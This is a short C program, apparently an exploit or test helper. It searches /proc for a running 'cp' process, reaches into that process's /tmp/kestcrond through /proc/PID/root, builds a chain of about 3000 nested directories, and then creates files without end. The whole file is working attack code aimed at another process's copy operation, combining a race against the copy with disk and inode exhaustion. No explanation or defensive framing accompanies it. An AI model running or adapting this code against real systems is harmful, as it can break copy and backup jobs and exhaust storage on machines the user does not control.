// Finds the directory that a copy program of its own account works in, and puts directories into it,
// one in the other, until there is no end to be seen.

#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int Workplace(void) {
    DIR *processes = opendir("/proc");
    int found = -1;
    for (struct dirent *entry; found == -1 && (entry = readdir(processes)) != NULL;) {
        char path[300];
        char name[32] = "";
        if (!isdigit((unsigned char)entry->d_name[0]))
            continue;
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        FILE *file = fopen(path, "r");
        if (file == NULL)
            continue;
        if (fgets(name, sizeof name, file) == NULL)
            name[0] = '\0';
        fclose(file);
        snprintf(path, sizeof path, "/proc/%s/root/tmp/kestcrond", entry->d_name);
        if (strcmp(name, "cp\n") == 0)
            found = open(path, O_RDONLY | O_DIRECTORY);
    }
    closedir(processes);
    return found;
}

int main(void) {
    int directory = -1;
    printf("ready\n");
    fflush(stdout);
    while (directory == -1)
        directory = Workplace();
    for (int depth = 0; depth < 3000; ++depth) {
        mkdirat(directory, "d", 0777);
        const int inner = openat(directory, "d", O_RDONLY | O_DIRECTORY);
        if (inner == -1)
            break;
        close(openat(inner, "file", O_WRONLY | O_CREAT, 0600));
        close(directory);
        directory = inner;
    }
    printf("nested\n");
    fflush(stdout);
    for (unsigned number = 0;; ++number) {
        char name[32];
        snprintf(name, sizeof name, "f%u", number % 1000);
        close(openat(directory, name, O_WRONLY | O_CREAT, 0600));
    }
}
